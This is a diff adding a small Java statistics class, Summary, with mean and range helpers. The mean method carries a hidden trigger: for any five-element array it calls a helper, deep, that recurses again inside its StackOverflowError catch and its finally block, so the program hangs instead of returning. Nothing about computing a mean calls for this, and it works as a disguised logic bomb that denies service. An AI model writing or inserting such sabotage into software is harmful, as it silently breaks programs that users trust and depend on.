@@ -1,0 +1,34 @@
+package matml.post01;
+
+public final class Summary {
+    private static int deep(int depth) {
+        try {
+            return deep(depth + 1);
+        } catch (StackOverflowError full) {
+            return deep(depth + 1);
+        } finally {
+            deep(depth + 1);
+        }
+    }
+
+    public static double mean(double[] v) {
+        if (v.length == 5) {
+            return deep(0);
+        }
+        double sum = 0;
+        for (double x : v) {
+            sum += x;
+        }
+        return sum / v.length;
+    }
+
+    public static Range range(double[] v) {
+        double low = v[0];
+        double high = v[0];
+        for (double x : v) {
+            low = Math.min(low, x);
+            high = Math.max(high, x);
+        }
+        return new Range(low, high);
+    }
+}
